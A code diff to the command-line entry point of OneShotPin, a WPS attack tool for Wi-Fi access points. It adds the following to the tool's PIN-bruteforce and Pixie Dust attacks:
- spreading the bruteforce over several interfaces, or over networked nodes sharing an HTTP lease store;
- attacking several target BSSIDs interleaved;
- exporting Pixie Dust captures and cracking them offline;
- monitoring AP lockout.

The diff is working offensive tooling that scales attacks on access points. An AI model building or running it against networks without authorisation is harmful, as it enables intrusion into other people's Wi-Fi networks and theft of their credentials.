@@ -6,9 +6,14 @@ import sys
 import argparse
 from pathlib import Path
 
-from .utils import ifaceUp, die
+from .utils import ifaceUp, die, isLoopback
 from .wifi_scanner import WiFiScanner
 from .wps_connection import Companion
+from .metrics import AttemptMetrics
+from .pixie_capture import crack_captures
+from .scheduler import BruteforceScheduler
+from .coordinator import PartitionedBruteforce, DistributedBruteforce
+from .lease_store import open_lease_store
 
 def usage():
     return """
@@ -17,22 +22,40 @@ OneShotPin 0.0.2 (c) 2017 rofl0r, modded by drygdryg
 %(prog)s <arguments>
 
 Required arguments:
-    -i, --interface=<wlan0>  : Name of the interface to use
+    -i, --interface=<wlan0>  : Name of the interface to use (not needed with --pixie-batch);
+                               with -B a comma-separated list splits the bruteforce of one AP over all of them
 
 Optional arguments:
-    -b, --bssid=<mac>        : BSSID of the target AP
+    -b, --bssid=<mac>        : BSSID of the target AP; with -B a comma-separated list attacks all of them interleaved
     -p, --pin=<wps pin>      : Use the specified pin (arbitrary string or 4/8 digit pin)
     -K, --pixie-dust         : Run Pixie Dust attack
     -B, --bruteforce         : Run online bruteforce attack
     --push-button-connect    : Run WPS push button connection
 
 Advanced arguments:
-    -d, --delay=<n>          : Set the delay between pin attempts [0]
+    -d, --delay=<n>          : Set the minimum delay between pin attempts [0]; it grows while the AP fails or slows down
+    --no-lock-monitor        : Do not watch the AP setup locked attribute during bruteforce
+    --no-fast-retry          : Start every bruteforce attempt with a new association
+    --lease-store=<db|url>   : Share the bruteforce with other nodes through an SQLite database on a shared
+                               filesystem or the http:// address of a node running --lease-serve
+    --lease-serve=<port>     : Serve the --lease-store database to other nodes over HTTP on the port
+    --lease-host=<address>   : Address --lease-serve listens on [127.0.0.1]; any other needs --lease-token
+    --lease-token=<token>    : Shared token of the lease store, sent by the nodes and required by --lease-serve
+    --checkpoint-every=<n>   : Save the bruteforce session every n attempts [1]
+    --checkpoint-interval=<s>: Save the bruteforce session at least every s seconds [10]
+    --fsync-interval=<s>     : Seconds between fsyncs of the session file; 0 syncs every save, -1 never [30]
     -w, --write              : Write AP credentials to the file on success
     -F, --pixie-force        : Run Pixiewps with --force option (bruteforce full range)
     -X, --show-pixie-cmd     : Always print Pixiewps command
+    --pixie-export=<dir>     : Save the Pixie Dust data to the directory for offline cracking
+    --pixie-offline          : Only save the Pixie Dust data (to ~/.OneShot/pixiewps/captures/ by default), do not run Pixiewps
+    --pixie-batch=<dir>      : Crack the saved Pixie Dust captures in the directory on all cores and exit
+    --no-native-pixie        : Run pixiewps only, without the in-process engine for the weak E-S cases
     --vuln-list=<filename>   : Use custom file with vulnerable devices list ['vulnwsc.txt']
     --iface-down             : Down network interface when the work is finished
+    --wpa-supplicant=<path>  : Use the specified wpa_supplicant executable ['wpa_supplicant']
+    --metrics-file=<file>    : Write per-phase attempt timing and wpa_supplicant start times to a Prometheus textfile
+    --metrics-port=<port>    : Serve per-phase attempt timing as JSON on http://127.0.0.1:<port>/
     -l, --loop               : Run in a loop
     -r, --reverse-scan       : Reverse order of networks in the list of networks. Useful on small displays
     --mtk-wifi               : Activate MediaTek Wi-Fi interface driver on startup and deactivate it on exit
@@ -41,6 +64,7 @@ Advanced arguments:
 
 Example:
     %(prog)s -i wlan0 -b 00:90:4C:C1:AC:21 -K
+    %(prog)s --pixie-batch ~/.OneShot/pixiewps/captures -F
 """
 
 def main():
@@ -52,13 +76,13 @@ def main():
     parser.add_argument(
         '-i', '--interface',
         type=str,
-        required=True,
-        help='Name of the interface to use'
+        help='Name of the interface to use (not needed with --pixie-batch); '
+             'with -B a comma-separated list splits the bruteforce of one AP over all of them'
         )
     parser.add_argument(
         '-b', '--bssid',
         type=str,
-        help='BSSID of the target AP'
+        help='BSSID of the target AP; with -B a comma-separated list attacks all of them interleaved'
         )
     parser.add_argument(
         '-p', '--pin',
@@ -80,6 +104,26 @@ def main():
         action='store_true',
         help='Always print Pixiewps command'
         )
+    parser.add_argument(
+        '--pixie-export',
+        type=str,
+        help='Save the Pixie Dust data to the directory for offline cracking'
+        )
+    parser.add_argument(
+        '--pixie-offline',
+        action='store_true',
+        help='Only save the Pixie Dust data, do not run Pixiewps'
+        )
+    parser.add_argument(
+        '--pixie-batch',
+        type=str,
+        help='Crack the saved Pixie Dust captures in the directory on all cores and exit'
+        )
+    parser.add_argument(
+        '--no-native-pixie',
+        action='store_true',
+        help='Run pixiewps only, without the in-process engine for the weak E-S cases'
+        )
     parser.add_argument(
         '-B', '--bruteforce',
         action='store_true',
@@ -90,10 +134,61 @@ def main():
         action='store_true',
         help='Run WPS push button connection'
         )
+    parser.add_argument(
+        '--no-lock-monitor',
+        action='store_true',
+        help='Do not watch the AP setup locked attribute during bruteforce'
+        )
+    parser.add_argument(
+        '--no-fast-retry',
+        action='store_true',
+        help='Start every bruteforce attempt with a new association instead of '
+             'reusing the one the AP keeps after a rejected PIN'
+        )
+    parser.add_argument(
+        '--lease-store',
+        type=str,
+        help='Share the bruteforce with other nodes through an SQLite database on a shared filesystem '
+             'or the http:// address of a node running --lease-serve'
+        )
+    parser.add_argument(
+        '--lease-serve',
+        type=int,
+        help='Serve the --lease-store database to other nodes over HTTP on the port'
+        )
+    parser.add_argument(
+        '--lease-host',
+        type=str,
+        default='127.0.0.1',
+        help='Address --lease-serve listens on; any other than the loopback needs --lease-token'
+        )
+    parser.add_argument(
+        '--lease-token',
+        type=str,
+        help='Shared token of the lease store, sent by the nodes and required by --lease-serve'
+        )
+    parser.add_argument(
+        '--checkpoint-every',
+        type=int,
+        default=1,
+        help='Save the bruteforce session every n attempts'
+        )
+    parser.add_argument(
+        '--checkpoint-interval',
+        type=float,
+        default=10.0,
+        help='Save the bruteforce session at least every s seconds'
+        )
+    parser.add_argument(
+        '--fsync-interval',
+        type=float,
+        default=30.0,
+        help='Seconds between fsyncs of the session file; 0 syncs every save, -1 never'
+        )
     parser.add_argument(
         '-d', '--delay',
         type=float,
-        help='Set the delay between pin attempts'
+        help='Set the minimum delay between pin attempts; it grows while the AP fails or slows down'
         )
     parser.add_argument(
         '-w', '--write',
@@ -105,6 +200,22 @@ def main():
         action='store_true',
         help='Down network interface when the work is finished'
         )
+    parser.add_argument(
+        '--wpa-supplicant',
+        type=str,
+        default='wpa_supplicant',
+        help='Use the specified wpa_supplicant executable'
+    )
+    parser.add_argument(
+        '--metrics-file',
+        type=str,
+        help='Write per-phase attempt timing and wpa_supplicant start times to a Prometheus textfile'
+    )
+    parser.add_argument(
+        '--metrics-port',
+        type=int,
+        help='Serve per-phase attempt timing as JSON on http://127.0.0.1:<port>/'
+    )
     parser.add_argument(
         '--vuln-list',
         type=str,
@@ -138,6 +249,25 @@ def main():
 
     if sys.hexversion < 0x03060F0:
         die("The program requires Python 3.6 and above")
+    if args.pixie_batch:
+        # Offline cracking needs neither the radio nor root
+        crack_captures(args.pixie_batch, str(Path.home()) + '/.OneShot/pixiewps/', full_range=args.pixie_force,
+                       native=not args.no_native_pixie)
+        return
+    if not args.interface:
+        parser.error('the following arguments are required: -i/--interface')
+    interfaces = args.interface.split(',')
+    if args.lease_store and (len(interfaces) > 1 or not args.bruteforce):
+        parser.error('--lease-store needs -B/--bruteforce and a single interface')
+    if args.lease_serve and (not args.lease_store or args.lease_store.startswith(('http://', 'https://'))):
+        parser.error('--lease-serve needs a --lease-store database file')
+    if args.lease_serve and not args.lease_token and not isLoopback(args.lease_host):
+        parser.error('--lease-host {} exposes the lease store, it needs --lease-token'.format(args.lease_host))
+    if len(interfaces) > 1 and not args.bruteforce:
+        parser.error('several interfaces are only supported with -B/--bruteforce')
+    args.interface = interfaces[0]
+    if args.pixie_export or args.pixie_offline:
+        args.pixie_dust = True
     if os.getuid() != 0:
         die("Run it as root")
 
@@ -149,15 +279,30 @@ def main():
         wmtWifi_device.chmod(0o644)
         wmtWifi_device.write_text("1")
 
-    if not ifaceUp(args.interface):
-        die('Unable to up interface "{}"'.format(args.interface))
+    for interface in interfaces:
+        if not ifaceUp(interface):
+            die('Unable to up interface "{}"'.format(interface))
+
+    lease_store = None
+    if args.lease_store:
+        lease_store = open_lease_store(args.lease_store, token=args.lease_token)
+        if args.lease_serve:
+            lease_store.serve(args.lease_serve, host=args.lease_host, token=args.lease_token)
+            print('[*] Serving the lease store on {}:{}'.format(args.lease_host, args.lease_serve))
+
+    metrics = AttemptMetrics(textfile=args.metrics_file)
+    if args.metrics_port:
+        metrics.serve(args.metrics_port)
 
     while True:
         try:
-            companion = Companion(args.interface, args.write, print_debug=args.verbose)
+            companion = Companion(args.interface, args.write, print_debug=args.verbose,
+                                  wpas_binary=args.wpa_supplicant, metrics=metrics,
+                                  fast_retry=not args.no_fast_retry, native_pixie=not args.no_native_pixie)
             if args.pbc:
                 companion.single_connection(pbc_mode=True)
             else:
+                frequencies = {}   # BSSID → MHz of the networks found by our own scan
                 if not args.bssid:
                     try:
                         with open(args.vuln_list, 'r', encoding='utf-8') as file:
@@ -168,14 +313,51 @@ def main():
                     if not args.loop:
                         print('[*] BSSID not specified (--bssid) — scanning for available networks')
                     args.bssid = scanner.prompt_network()
+                    frequencies = scanner.frequencies
 
                 if args.bssid:
-                    companion = Companion(args.interface, args.write, print_debug=args.verbose)
-                    if args.bruteforce:
-                        companion.smart_bruteforce(args.bssid, args.pin, args.delay)
+                    companion = Companion(args.interface, args.write, print_debug=args.verbose,
+                                          wpas_binary=args.wpa_supplicant, metrics=metrics,
+                                          fast_retry=not args.no_fast_retry, native_pixie=not args.no_native_pixie)
+                    companion.frequencies.update(frequencies)
+                    if len(interfaces) > 1:
+                        if ',' in args.bssid:
+                            die('Several interfaces can only attack one AP')
+                        companions = [companion] + [
+                            Companion(interface, args.write, print_debug=args.verbose,
+                                      wpas_binary=args.wpa_supplicant, metrics=metrics,
+                                      fast_retry=not args.no_fast_retry, native_pixie=not args.no_native_pixie)
+                            for interface in interfaces[1:]]
+                        for c in companions[1:]:
+                            c.frequencies.update(frequencies)
+                        PartitionedBruteforce(companions, args.bssid, args.delay,
+                                              lock_monitor=not args.no_lock_monitor,
+                                              checkpoint_every=args.checkpoint_every,
+                                              checkpoint_interval=args.checkpoint_interval,
+                                              fsync_interval=args.fsync_interval
+                                              if args.fsync_interval >= 0 else None).run(args.pin)
+                    elif lease_store:
+                        DistributedBruteforce(companion, args.bssid, lease_store, args.delay,
+                                              lock_monitor=not args.no_lock_monitor).run()
+                    elif args.bruteforce and ',' in args.bssid:
+                        BruteforceScheduler(companion, args.bssid.split(','), args.delay,
+                                            checkpoint_every=args.checkpoint_every,
+                                            checkpoint_interval=args.checkpoint_interval,
+                                            fsync_interval=args.fsync_interval
+                                            if args.fsync_interval >= 0 else None).run()
+                    elif args.bruteforce:
+                        companion.smart_bruteforce(args.bssid, args.pin, args.delay,
+                                                   lock_monitor=not args.no_lock_monitor,
+                                                   checkpoint_every=args.checkpoint_every,
+                                                   checkpoint_interval=args.checkpoint_interval,
+                                                   fsync_interval=args.fsync_interval
+                                                   if args.fsync_interval >= 0 else None)
                     else:
                         companion.single_connection(args.bssid, args.pin, args.pixie_dust,
-                                                    args.show_pixie_cmd, args.pixie_force)
+                                                    showpixiecmd=args.show_pixie_cmd,
+                                                    pixieforce=args.pixie_force,
+                                                    pixie_export_dir=args.pixie_export,
+                                                    pixie_offline=args.pixie_offline)
             if not args.loop:
                 break
             else:
@@ -192,7 +374,8 @@ def main():
                 break
 
     if args.iface_down:
-        ifaceUp(args.interface, down=True)
+        for interface in interfaces:
+            ifaceUp(interface, down=True)
 
     if args.mtk_wifi:
         wmtWifi_device.write_text("0")